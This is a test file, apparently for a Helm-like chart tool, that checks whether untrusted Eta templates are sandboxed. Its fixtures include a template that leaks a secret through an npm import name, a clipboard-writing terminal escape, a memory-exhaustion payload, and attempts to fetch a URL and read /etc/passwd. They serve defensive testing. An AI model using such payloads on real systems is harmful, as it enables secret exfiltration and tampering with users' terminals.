/**
 * The whole program with an untrusted chart with `engine: eta`: its templates can
 * only compute.
 *
 * @module
 */
import { deepEqual, doesNotMatch, equal, match } from "node:assert/strict";
import { stat } from "node:fs/promises";
import { join } from "node:path";
import { inFolder } from "../_lib/folder.ts";
import { HAS_TERMINAL, onTerminal } from "../_lib/terminal.ts";

const ROOT = join(import.meta.dirname ?? ".", "..", "..");
const BUNDLE = join(ROOT, "dist", "skeg.js");
const SPLIT = join(ROOT, "dist", "modules", "skeg.js");
const RIGHTS = ["-R", "-W", "-N", "-E", "-S", "--allow-run"];

/** Returns a chart with this template only. */
function chartOf(template: string): Record<string, string> {
  return {
    "c/Chart.yaml": "apiVersion: v1\nname: c\nversion: 1.0.0\nengine: eta\n",
    "c/values.yaml": "password: HUNTER2\n",
    "c/templates/a.yaml": template,
  };
}

interface Ran {
  readonly code: number;
  readonly stdout: string;
  readonly stderr: string;
}

async function run(args: readonly string[], env: Record<string, string> = {}): Promise<Ran> {
  const { code, stdout, stderr } = await new Deno.Command(Deno.execPath(), {
    args: ["run", "--quiet", "--no-check", ...args],
    env,
    stdin: "null",
  }).output();
  const text = (bytes: Uint8Array) => new TextDecoder().decode(bytes);
  return { code, stdout: text(stdout), stderr: text(stderr) };
}

/** Runs `work` with an empty package registry; returns the requested paths. */
async function withRegistry(work: (address: string) => Promise<void>): Promise<string[]> {
  const asked: string[] = [];
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (request) => {
    asked.push(new URL(request.url).pathname);
    return new Response("{}", { status: 404 });
  });
  try {
    await work(`http://127.0.0.1:${server.addr.port}`);
  } finally {
    await server.shutdown();
  }
  return asked;
}

const ASK = `<%
const name = "npm:exfil-" + it.Values.password.toLowerCase();
import(name).catch(() => 0);
for (const end = Date.now() + 500; Date.now() < end;);
%>apiVersion: v1
kind: ConfigMap
metadata: {name: c}
`;

/** The ways to start the program: from sources, and as a bundle without packages beside it. */
const STARTS: Readonly<Record<string, readonly string[]>> = {
  "the sources, without a configuration": ["--no-config", "--no-lock", ...RIGHTS, join(ROOT, "main.ts")],
  "the bundle": ["--no-config", "--no-lock", ...RIGHTS, BUNDLE],
  "the split bundle": ["--no-config", "--no-lock", ...RIGHTS, SPLIT],
  "the bundle, with rights to read alone": [
    "--no-config",
    "--no-lock",
    "--unstable-worker-options",
    "-R",
    "-E",
    BUNDLE,
  ],
};
const hasBundle = await stat(BUNDLE).then(() => true, () => false);
const isBundle = (args: readonly string[]): boolean => args.includes(BUNDLE) || args.includes(SPLIT);

for (const [what, args] of Object.entries(STARTS)) {
  Deno.test({
    name: `an Eta template asks the registry of packages for nothing: ${what}`,
    ignore: isBundle(args) && !hasBundle,
    fn: () =>
      inFolder(chartOf(ASK), async (folder) => {
        const asked = await withRegistry(async (address) => {
          const env = { NPM_CONFIG_REGISTRY: address, npm_config_registry: address };
          const ran = await run([...args, "template", join(folder, "c")], env);
          deepEqual([ran.code, ran.stderr], [0, ""]);
          match(ran.stdout, /^---\n# Source: c\/templates\/a.yaml\napiVersion: v1\n/);
          // From the sources, these commands load packages themselves.
          if (!args.includes("-W") || !isBundle(args)) return;
          equal((await run([...args, "lint", join(folder, "c")], env)).code, 0);
          const install = ["install", join(folder, "c"), "--name", "c", `--sandbox=${join(folder, "state.db")}`];
          equal((await run([...args, ...install], env)).code, 0);
        });
        // The sources also request their own packages from the registry.
        deepEqual(isBundle(args) ? asked : asked.filter((path) => path.includes("exfil")), []);
      }),
  });
}

Deno.test("an Eta template writes nothing to the program's streams", () =>
  inFolder(chartOf('<% try { console.log("\\u001b]52;c;eA==\\u0007"); } catch {} %>x: 1\n'), async (folder) => {
    const ran = await run([...RIGHTS, join(ROOT, "main.ts"), "template", join(folder, "c")]);
    deepEqual(ran, { code: 0, stdout: "---\n# Source: c/templates/a.yaml\nx: 1\n\n", stderr: "" });
  }));

Deno.test("an Eta template that V8 would end the process for ends with an error", () =>
  inFolder(chartOf("<% 'x'.repeat(2 ** 28).split('') %>"), async (folder) => {
    for (const [command, stream] of [["template", "stderr"], ["lint", "stdout"]] as const) {
      const ran = await run([...RIGHTS, join(ROOT, "main.ts"), command, join(folder, "c")]);
      equal(ran.code, 1);
      match(ran[stream], /rendering template failed: Eta templates took more than 512 MiB of memory/);
    }
  }));

Deno.test({
  name: "an Eta template that wants the network or a file has no question asked in the program's name",
  ignore: !HAS_TERMINAL,
  fn: async () => {
    for (const code of ["fetch('http://127.0.0.1:1/')", "Deno.readTextFileSync('/etc/passwd')"]) {
      await inFolder(chartOf(`<%= ${code} %>`), async (folder) => {
        const { code, text } = await onTerminal(["template", join(folder, "c")], { HOME: folder });
        equal(code, 1);
        match(text, /is not defined/);
        doesNotMatch(text, /Allow|permission/i);
      });
    }
  },
});
